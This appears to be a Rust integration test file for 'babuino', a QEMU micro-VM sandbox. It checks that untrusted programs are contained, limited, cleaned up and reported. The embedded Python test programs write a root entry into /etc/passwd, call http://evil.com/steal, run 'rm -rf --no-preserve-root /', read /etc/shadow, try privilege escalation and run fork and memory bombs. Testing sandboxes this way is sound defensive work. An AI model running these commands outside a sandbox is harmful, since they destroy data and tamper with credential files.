//! The micro-VM backend attacked through the real `babuino` binary, booting real QEMU guests
//! (TCG on these hosts: each boot takes seconds, so the tests are few, run one at a time, and
//! pack several attacks into one VM where the attacks cannot hide each other).
//!
//! Skipped, with the reason printed, only when QEMU is not installed; CI installs it
//! (scripts/deps.d/babuino-vm.sh) and builds the guest assets once into `$TRIAD_CACHE`.
#![allow(clippy::unwrap_used)] // test helpers: a failed unwrap is a failed test

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::{Mutex, OnceLock};
use std::time::{Duration, Instant};

use serde_json::Value;

/// One VM at a time: the host has two cores and TCG is CPU-bound.
static VM_LOCK: Mutex<()> = Mutex::new(());

pub(super) fn cache_dir() -> PathBuf {
    match std::env::var_os("TRIAD_CACHE").filter(|v| !v.is_empty()) {
        Some(d) => PathBuf::from(d).join("babuino"),
        None => {
            let home = std::env::var_os("HOME")
                .map(PathBuf::from)
                .unwrap_or_else(|| "/root".into());
            home.join(".cache/security-triad/babuino")
        }
    }
}

fn babuino() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_babuino"));
    c.env("BABUINO_CACHE", cache_dir());
    c
}

/// Builds the assets once per test binary (a no-op when cached); None = skip (no QEMU).
pub(super) fn ready() -> Option<std::sync::MutexGuard<'static, ()>> {
    static SETUP: OnceLock<Result<(), String>> = OnceLock::new();
    if Command::new("qemu-system-x86_64")
        .arg("--version")
        .output()
        .is_err()
    {
        eprintln!("skipped: qemu-system-x86_64 is not installed (apt-get install qemu-system-x86)");
        return None;
    }
    let guard = VM_LOCK.lock().unwrap_or_else(|e| e.into_inner());
    let setup = SETUP.get_or_init(|| {
        let out = babuino()
            .args(["setup", "vm"])
            .output()
            .map_err(|e| e.to_string())?;
        if out.status.success() {
            Ok(())
        } else {
            Err(String::from_utf8_lossy(&out.stderr).into_owned())
        }
    });
    if let Err(e) = setup {
        panic!("babuino setup vm failed:\n{e}");
    }
    Some(guard)
}

/// A unique value put in babuino's environment: QEMU inherits it, so a leftover VM is found by
/// scanning /proc/*/environ for it.
fn marker() -> String {
    format!(
        "BABUINO_TEST_MARK=vm-{}-{}",
        std::process::id(),
        Instant::now().elapsed().as_nanos() ^ rand_ish()
    )
}

fn rand_ish() -> u128 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_nanos())
        .unwrap_or(0)
}

fn processes_with(marker: &str) -> Vec<u32> {
    let mut found = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        if let Ok(env) = std::fs::read(e.path().join("environ"))
            && env.split(|b| *b == 0).any(|kv| kv == marker.as_bytes())
        {
            found.push(pid);
        }
    }
    found
}

struct Run {
    out: Output,
    report: Value,
}

impl Run {
    fn stderr(&self) -> String {
        String::from_utf8_lossy(&self.out.stderr).into_owned()
    }
    fn code(&self) -> i32 {
        self.out.status.code().unwrap_or(-1)
    }
    fn exit_kind(&self) -> &str {
        self.report["exit"]["kind"].as_str().unwrap_or("")
    }
    /// Events as `kind: detail` lines.
    fn events(&self) -> Vec<String> {
        self.report["events"]
            .as_array()
            .map(|a| {
                a.iter()
                    .map(|d| {
                        format!(
                            "{}: {}",
                            d["kind"].as_str().unwrap_or(""),
                            d["detail"].as_str().unwrap_or("")
                        )
                    })
                    .collect()
            })
            .unwrap_or_default()
    }
}

/// Runs `babuino run --sandbox kvm --accel tcg --json ARGS` in `dir` and checks that no process
/// and no temporary file of the run is left behind.
fn run_vm(dir: &Path, args: &[&str]) -> Run {
    let mark = marker();
    let (k, v) = mark.split_once('=').unwrap();
    let tmp = tempfile::tempdir().unwrap();
    let out = babuino()
        .args(["run", "--sandbox", "kvm", "--accel", "tcg", "--json"])
        .args(args)
        .current_dir(dir)
        .env(k, v)
        .env("TMPDIR", tmp.path())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let report: Value = serde_json::from_str(&stdout).unwrap_or_else(|e| {
        panic!(
            "no JSON report ({e}); stdout:\n{stdout}\nstderr:\n{}",
            String::from_utf8_lossy(&out.stderr)
        )
    });
    assert!(
        processes_with(&mark).is_empty(),
        "a process of the run outlived it"
    );
    assert_eq!(
        std::fs::read_dir(tmp.path()).unwrap().count(),
        0,
        "temporary files left behind"
    );
    Run { out, report }
}

fn sha256(path: &Path) -> Vec<u8> {
    use sha2::Digest;
    sha2::Sha256::digest(std::fs::read(path).unwrap()).to_vec()
}

#[test]
fn vm_seed_example_is_contained_and_reported() {
    let Some(_vm) = ready() else { return };
    let code = tempfile::tempdir().unwrap();
    let canary = code.path().join("canary.txt");
    std::fs::write(&canary, "still here").unwrap();
    std::fs::write(
        code.path().join("scrape.py"),
        r#"
import os, subprocess, urllib.request
try:
    open("/etc/passwd", "a").write("pwned::0:0::/:/bin/sh\n")
    print("WROTE /etc/passwd")
except OSError as e:
    print("passwd blocked:", e.strerror)
try:
    urllib.request.urlopen("http://evil.com/steal", timeout=5)
    print("REACHED evil.com")
except Exception as e:
    print("evil.com blocked:", type(e).__name__)
try:
    open("/code/canary.txt", "w").write("overwritten")
except OSError as e:
    print("code dir blocked:", e.strerror)
subprocess.run(["rm", "-rf", "--no-preserve-root", "/"], stderr=subprocess.DEVNULL)
os.makedirs("/out/sub", exist_ok=True)
open("/out/sub/result.txt", "w").write("42\n")
os.symlink("/etc/shadow", "/out/shadow-link")
print("result:", sum(range(10)))
"#,
    )
    .unwrap();
    let host_passwd = sha256(Path::new("/etc/passwd"));
    let out_dir = tempfile::tempdir().unwrap();
    let out_path = out_dir.path().join("out");
    let run = run_vm(
        code.path(),
        &["--output", out_path.to_str().unwrap(), "scrape.py"],
    );
    let stdout = run.report.to_string();
    let printed = String::from_utf8_lossy(&run.out.stderr).into_owned();
    assert_eq!(run.code(), 0, "{}", run.stderr());
    assert_eq!(run.exit_kind(), "code");
    assert!(
        printed.contains("passwd blocked: Read-only file system"),
        "{printed}"
    );
    assert!(printed.contains("evil.com blocked"), "{printed}");
    assert!(
        printed.contains("code dir blocked: Read-only file system"),
        "{printed}"
    );
    assert!(printed.contains("result: 45"), "{printed}");
    assert!(
        !printed.contains("WROTE") && !printed.contains("REACHED"),
        "{printed}"
    );
    // The refusals are in the report, not only in the program's own output.
    let events = run.events();
    assert!(
        events.iter().any(|d| d.starts_with("denied-write: ")
            && d.contains("/etc/passwd")
            && d.contains("EROFS")),
        "{events:?}\n{stdout}"
    );
    assert!(
        events
            .iter()
            .any(|d| d.starts_with("denied-write: ") && d.contains("/code/canary.txt")),
        "{events:?}"
    );
    assert!(
        events.iter().any(|d| d.starts_with("blocked-connect: ")),
        "{events:?}"
    );
    assert!(
        run.report["outputs"]
            .as_array()
            .unwrap()
            .iter()
            .any(|o| o == "sub/result.txt"),
        "{stdout}"
    );
    assert!(
        events
            .iter()
            .any(|d| d.starts_with("output-skipped: shadow-link")),
        "{events:?}"
    );
    // rm -rf / inside changed nothing outside.
    assert_eq!(std::fs::read_to_string(&canary).unwrap(), "still here");
    assert_eq!(sha256(Path::new("/etc/passwd")), host_passwd);
    // Outputs: the regular file came back, the planted link did not.
    assert_eq!(
        std::fs::read_to_string(out_path.join("sub/result.txt")).unwrap(),
        "42\n"
    );
    assert!(std::fs::symlink_metadata(out_path.join("shadow-link")).is_err());
    assert_eq!(run.report["backend"], "kvm");
    assert_eq!(run.report["details"]["accel"], "tcg");
    // QEMU itself ran jailed, with Landlock where the host kernel has it.
    let jail = run.report["details"]["qemu_jail"].as_str().unwrap();
    // SAFETY: LANDLOCK_CREATE_RULESET_VERSION only returns the ABI version (no pointers used).
    let abi = unsafe { libc::syscall(libc::SYS_landlock_create_ruleset, 0usize, 0usize, 1u32) };
    assert_eq!(
        jail.contains("landlock"),
        abi >= 1,
        "{jail} (landlock abi {abi})"
    );
}

#[test]
fn vm_memory_bomb_is_stopped_by_the_ram_limit() {
    let Some(_vm) = ready() else { return };
    let code = tempfile::tempdir().unwrap();
    std::fs::write(
        code.path().join("bomb.py"),
        "x = []\nwhile True:\n    x.append(bytearray(8 << 20))\n",
    )
    .unwrap();
    let run = run_vm(code.path(), &["--memory", "256M", "bomb.py"]);
    assert_eq!(
        run.exit_kind(),
        "memory",
        "{}\n{}",
        run.report,
        run.stderr()
    );
    assert_eq!(run.code(), 123);
}

#[test]
fn vm_infinite_loop_is_killed_at_the_time_limit() {
    let Some(_vm) = ready() else { return };
    let code = tempfile::tempdir().unwrap();
    std::fs::write(code.path().join("spin.py"), "while True:\n    pass\n").unwrap();
    let t = Instant::now();
    let run = run_vm(code.path(), &["--timeout", "3s", "spin.py"]);
    assert_eq!(
        run.exit_kind(),
        "timeout",
        "{}\n{}",
        run.report,
        run.stderr()
    );
    assert_eq!(run.code(), 124);
    let run_ms = run.report["timings"]["run_ms"].as_f64().unwrap();
    assert!((3000.0..8000.0).contains(&run_ms), "run_ms {run_ms}");
    assert!(t.elapsed() < Duration::from_secs(120));
}

#[test]
fn vm_output_flood_is_cut_at_the_output_limit() {
    let Some(_vm) = ready() else { return };
    let code = tempfile::tempdir().unwrap();
    let run = run_vm(
        code.path(),
        &["--output-limit", "100000", "sh", "-c", "yes babuino"],
    );
    assert_eq!(
        run.exit_kind(),
        "output-cap",
        "{}\n{}",
        run.report,
        run.stderr()
    );
    assert_eq!(run.code(), 121);
    assert_eq!(run.report["stdout"]["truncated"], true);
    // No more than the limit reached the user.
    let shown = String::from_utf8_lossy(&run.out.stderr)
        .matches("babuino\n")
        .count();
    assert!(
        shown > 0 && shown <= 100000 / "babuino\n".len() + 1,
        "{shown}"
    );
}

/// Starts a VM that waits, sends `signal` to babuino once the program runs, and checks that
/// neither QEMU nor temporary files survive. Returns babuino's exit status.
fn signal_babuino_mid_run(signal: nix::sys::signal::Signal) -> std::process::ExitStatus {
    let code = tempfile::tempdir().unwrap();
    std::fs::write(
        code.path().join("wait.py"),
        "import time\nprint('ready', flush=True)\ntime.sleep(600)\n",
    )
    .unwrap();
    let mark = marker();
    let (k, v) = mark.split_once('=').unwrap();
    let tmp = tempfile::tempdir().unwrap();
    let mut child = babuino()
        .args(["run", "--sandbox", "kvm", "--accel", "tcg", "wait.py"])
        .current_dir(code.path())
        .env(k, v)
        .env("TMPDIR", tmp.path())
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    // Wait until the program runs inside the VM.
    let mut stdout = child.stdout.take().unwrap();
    let mut seen = Vec::new();
    let mut buf = [0u8; 256];
    while !String::from_utf8_lossy(&seen).contains("ready") {
        use std::io::Read;
        let n = stdout.read(&mut buf).unwrap();
        assert!(n > 0, "babuino ended before the program started");
        seen.extend_from_slice(&buf[..n]);
    }
    assert!(
        processes_with(&mark).len() >= 2,
        "expected babuino and qemu to be running"
    );
    // QEMU runs unprivileged, under a uid no other process (or other VM) has.
    let qemu_uids: Vec<u32> = processes_with(&mark)
        .into_iter()
        .filter(|p| *p != child.id())
        .filter_map(|p| std::fs::read_to_string(format!("/proc/{p}/status")).ok())
        .filter(|st| st.contains("qemu-system"))
        .filter_map(|st| {
            st.lines()
                .find_map(|l| l.strip_prefix("Uid:"))
                .and_then(|v| v.split_whitespace().next()?.parse().ok())
        })
        .collect();
    assert_eq!(qemu_uids.len(), 1, "{qemu_uids:?}");
    if nix::unistd::geteuid().is_root() {
        assert!(qemu_uids[0] >= 0x4000_0000, "qemu uid {}", qemu_uids[0]);
    } else {
        assert_ne!(qemu_uids[0], 0);
    }
    nix::sys::signal::kill(nix::unistd::Pid::from_raw(child.id() as i32), signal).unwrap();
    let status = child.wait().unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    while !processes_with(&mark).is_empty() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(
        processes_with(&mark).is_empty(),
        "qemu survived {signal} of babuino"
    );
    assert_eq!(
        std::fs::read_dir(tmp.path()).unwrap().count(),
        0,
        "temporary files left behind"
    );
    status
}

#[test]
fn vm_sigkill_of_babuino_leaves_nothing_behind() {
    let Some(_vm) = ready() else { return };
    // SIGKILL: babuino gets no chance to clean up; the kernel's parent-death signal does it.
    let status = signal_babuino_mid_run(nix::sys::signal::Signal::SIGKILL);
    assert_eq!(status.code(), None);
}

#[test]
fn vm_sigterm_of_babuino_destroys_the_vm_and_says_so() {
    let Some(_vm) = ready() else { return };
    let status = signal_babuino_mid_run(nix::sys::signal::Signal::SIGTERM);
    assert_eq!(status.code(), Some(128 + 15));
}

#[test]
fn vm_run_without_assets_says_what_to_do() {
    let empty = tempfile::tempdir().unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_babuino"))
        .args(["run", "--sandbox", "kvm", "true"])
        .env("BABUINO_CACHE", empty.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("babuino setup vm"), "{err}");
}

#[test]
fn vm_allowed_host_is_reached_through_the_egress_proxy_and_nothing_else() {
    let Some(_vm) = ready() else { return };
    // A local web server standing in for the allowed host.
    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for conn in server.incoming().flatten() {
            use std::io::{Read, Write};
            let mut c = conn;
            let mut buf = [0u8; 4096];
            let _ = c.read(&mut buf);
            let body = "hello from the allowed host";
            let _ = write!(
                c,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    let code = tempfile::tempdir().unwrap();
    std::fs::write(
        code.path().join("net.py"),
        r#"
import socket, urllib.request
print("allowed:", urllib.request.urlopen("http://allowed.test/data", timeout=20).read().decode())
try:
    urllib.request.urlopen("http://evil.com/steal", timeout=20)
    print("REACHED evil.com")
except Exception as e:
    print("evil.com blocked:", type(e).__name__)
try:
    socket.create_connection(("1.1.1.1", 80), timeout=5)
    print("REACHED 1.1.1.1 directly")
except OSError as e:
    print("direct blocked:", e.strerror)
"#,
    )
    .unwrap();
    let mark = marker();
    let (k, v) = mark.split_once('=').unwrap();
    let out = babuino()
        .args([
            "run",
            "--sandbox",
            "kvm",
            "--accel",
            "tcg",
            "--json",
            "--network-allow",
            "allowed.test",
            "net.py",
        ])
        .current_dir(code.path())
        .env(
            "BABUINO_TEST_RESOLVE",
            format!("allowed.test=127.0.0.1:{port}"),
        )
        .env(k, v)
        .output()
        .unwrap();
    let printed = String::from_utf8_lossy(&out.stderr);
    let report: Value =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {printed}"));
    assert_eq!(out.status.code(), Some(0), "{printed}");
    assert!(
        printed.contains("allowed: hello from the allowed host"),
        "{printed}"
    );
    assert!(printed.contains("evil.com blocked"), "{printed}");
    assert!(printed.contains("direct blocked"), "{printed}");
    assert!(!printed.contains("REACHED"), "{printed}");
    let events: Vec<String> = report["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            format!(
                "{}: {}",
                e["kind"].as_str().unwrap(),
                e["detail"].as_str().unwrap()
            )
        })
        .collect();
    assert!(
        events
            .iter()
            .any(|e| e.starts_with("allowed-connect: ") && e.contains("allowed.test")),
        "{events:?}"
    );
    assert!(
        events
            .iter()
            .any(|e| e.starts_with("blocked-connect: ") && e.contains("evil.com")),
        "{events:?}"
    );
    assert!(
        events
            .iter()
            .any(|e| e.starts_with("blocked-connect: ") && e.contains("1.1.1.1")),
        "{events:?}"
    );
    assert!(processes_with(&mark).is_empty());
}

#[test]
fn vm_privileged_attacks_are_denied_and_reported() {
    let Some(_vm) = ready() else { return };
    let code = tempfile::tempdir().unwrap();
    std::fs::write(
        code.path().join("attack.py"),
        r##"
import ctypes, os, subprocess
def attempt(name, fn):
    try:
        fn()
        print(name, "SUCCEEDED")
    except Exception as e:
        print(name, "blocked:", type(e).__name__)
attempt("read shadow", lambda: open("/etc/shadow").read())
attempt("mknod", lambda: os.mknod("/tmp/sda", 0o600 | 0o60000, os.makedev(8, 0)))
attempt("setuid 0", lambda: os.setuid(0))
attempt("kill init", lambda: os.kill(1, 9))
libc = ctypes.CDLL(None, use_errno=True)
def mount():
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) != 0:
        raise OSError(ctypes.get_errno(), "mount")
attempt("mount", mount)
def ptrace_init():
    if libc.ptrace(16, 1, None, None) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")
attempt("ptrace init", ptrace_init)
print("visible pids:", sorted(int(p) for p in os.listdir("/proc") if p.isdigit())[:3])
print("su:", subprocess.run(["su", "-c", "id"], capture_output=True).returncode != 0)
children = 0
try:
    while True:
        if os.fork() == 0:
            import time; time.sleep(30); os._exit(0)
        children += 1
except OSError as e:
    print("fork bomb stopped after", children, "children:", type(e).__name__)
"##,
    )
    .unwrap();
    let run = run_vm(code.path(), &["--pids", "32", "attack.py"]);
    let printed = run.stderr();
    assert!(!printed.contains("SUCCEEDED"), "{printed}");
    for what in [
        "read shadow",
        "mknod",
        "setuid 0",
        "kill init",
        "mount",
        "ptrace init",
    ] {
        assert!(
            printed.contains(&format!("[attack.py] {what} blocked")),
            "{what}: {printed}"
        );
    }
    // Only the program's own processes are visible (hidepid), never init or the agent.
    assert!(!printed.contains("visible pids: [1,"), "{printed}");
    assert!(printed.contains("su: True"), "{printed}");
    assert!(printed.contains("fork bomb stopped after"), "{printed}");
    let events = run.events();
    let has = |prefix: &str, needle: &str| {
        events
            .iter()
            .any(|e| e.starts_with(prefix) && e.contains(needle))
    };
    assert!(has("denied-read: ", "/etc/shadow"), "{events:?}");
    assert!(has("denied-write: ", "mknod"), "{events:?}");
    assert!(has("denied-syscall: ", "mount"), "{events:?}");
    assert!(has("denied-syscall: ", "kill"), "{events:?}");
    assert!(has("denied-syscall: ", "ptrace"), "{events:?}");
    assert!(has("limit: ", "process limit"), "{events:?}");
    // The program itself exited normally after its attempts.
    assert_eq!(run.exit_kind(), "code", "{}", run.report);
}

#[test]
fn vm_doctor_lists_the_backend_requirements() {
    let out = babuino().args(["doctor", "--json"]).output().unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let kvm = v["backends"]["kvm"].as_array().unwrap();
    let names: Vec<&str> = kvm.iter().map(|c| c["name"].as_str().unwrap()).collect();
    for n in ["qemu", "accelerator", "mksquashfs", "guest assets"] {
        assert!(names.contains(&n), "{names:?}");
    }
    let accel = kvm.iter().find(|c| c["name"] == "accelerator").unwrap();
    let detail = accel["detail"].as_str().unwrap();
    assert!(
        detail.starts_with("kvm") || detail.starts_with("tcg"),
        "{detail}"
    );
    assert_eq!(out.status.code(), Some(if v["ok"] == true { 0 } else { 1 }));
}

#[test]
fn vm_boot_stall_fails_with_a_clear_error_and_leaves_nothing() {
    let Some(_vm) = ready() else { return };
    let code = tempfile::tempdir().unwrap();
    let mark = marker();
    let (k, v) = mark.split_once('=').unwrap();
    // No guest boots in one second under TCG: this is a stall as far as babuino can tell.
    let out = babuino()
        .args(["run", "--sandbox", "kvm", "--accel", "tcg", "true"])
        .current_dir(code.path())
        .env("BABUINO_VM_BOOT_TIMEOUT", "1")
        .env(k, v)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{err}");
    assert!(err.contains("did not boot within 1 s (accel tcg)"), "{err}");
    assert!(processes_with(&mark).is_empty(), "qemu left running");
}

#[test]
fn vm_stdin_reaches_the_program_intact() {
    let Some(_vm) = ready() else { return };
    use sha2::Digest;
    // Larger than the pipe and than one frame, so framing and back-pressure both matter.
    let data: Vec<u8> = (0..3_000_000u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let want = hex::encode(sha2::Sha256::digest(&data));
    let mut child = babuino()
        .args(["run", "--sandbox", "kvm", "--accel", "tcg", "--stdin", "python3", "-c"])
        .arg("import sys, hashlib; print('sha', hashlib.sha256(sys.stdin.buffer.read()).hexdigest())")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let writer = std::thread::spawn(move || {
        use std::io::Write;
        let _ = stdin.write_all(&data);
    });
    let out = child.wait_with_output().unwrap();
    writer.join().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.contains(&format!("sha {want}")), "{stdout}");
}
